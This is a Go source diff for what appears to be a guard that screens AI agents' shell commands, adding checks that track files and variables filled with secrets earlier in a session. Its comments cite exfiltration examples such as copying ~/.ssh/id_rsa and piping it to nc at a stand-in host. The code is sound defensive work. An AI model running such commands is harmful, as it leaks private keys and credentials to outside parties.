@@ -21,6 +21,16 @@ type Context struct {
 	// agents' configuration ($HGUARD_HOME=/srv/hg), resolved by GuardDirs:
 	// guardPath and persistPath count them besides the names they know.
 	Guarded []GuardDir
+	// SecretFile reports a file, by its cleaned path (absolute or ~/…),
+	// that earlier commands of an agent's session wrote and whose content
+	// holds a secret (a private key, a cloud key, a token): sending it is
+	// sending the secret (holdsSecret). Nil for a person and for a line
+	// of its own.
+	SecretFile func(path string) bool
+
+	// held is what the line's commands filled with a secret, built once
+	// per line when a rule first asks (Evaluate sets it).
+	held *heldSecrets
 }
 
 // CommandEnv is what a command-scope rule's expression sees. Field tags are
@@ -74,6 +84,12 @@ type CommandEnv struct {
 	// PrintsEnvironment reports that the command's output (or its inline
 	// code) holds the environment's values (printsEnvironment).
 	PrintsEnvironment func() bool `expr:"printsEnvironment"`
+	// HoldsSecret reports a file an earlier command filled with a secret
+	// (holdsSecret).
+	HoldsSecret func(path string) bool `expr:"holdsSecret"`
+	// SecretValue reports a text that expands a variable the line set
+	// from a secret (secretValue).
+	SecretValue func(text string) bool `expr:"secretValue"`
 }
 
 // RedirectEnv is one redirection as rules see it.
@@ -212,6 +228,14 @@ func newCommandEnv(c *cmdline.Command, line *cmdline.Line, ctx Context) *Command
 	}
 	env.SendsInput = func() bool { return sendsInput(c, args, pos) }
 	env.PrintsEnvironment = func() bool { return printsEnvironment(c) }
+	env.HoldsSecret = func(p string) bool {
+		h, i := ctx.heldBefore(c, line)
+		return h.names(p, env.Cwd, i, ctx)
+	}
+	env.SecretValue = func(text string) bool {
+		h, i := ctx.heldBefore(c, line)
+		return h.expands(text, i)
+	}
 	env.GuardPath, env.PersistPath = guardPath, persistPath
 	env.GuardParent = func(p string) bool { return guardParentIn(p, gs) }
 	if len(gs) > 0 {
@@ -663,6 +687,19 @@ func pipedSecrets(c *cmdline.Command, line *cmdline.Line, ctx Context) []string 
 		ue := newCommandEnv(u, line, ctx)
 		out = append(out, ue.SecretFiles...)
 		out = append(out, archivedSecrets(u, ue.Args, ue.Positional, ue.Cwd)...) // tar c ~/.ssh, cd ~ && tar c .ssh
+		if len(ue.Positional) > 0 || len(ue.Redirects) > 0 {
+			h, i := ctx.heldBefore(u, line)
+			for _, p := range ue.Positional {
+				if h.names(p, ue.Cwd, i, ctx) {
+					out = append(out, p) // cp ~/.ssh/id_rsa k; cat k | nc h 80
+				}
+			}
+			for _, r := range ue.Redirects {
+				if r.Op == "<" && h.names(r.Target, ue.Cwd, i, ctx) {
+					out = append(out, r.Target)
+				}
+			}
+		}
 		if revealsSecret(u.Name, wordValues(u.Args)) {
 			out = append(out, u.Source) // a secrets service's value (vault kv get x)
 		}
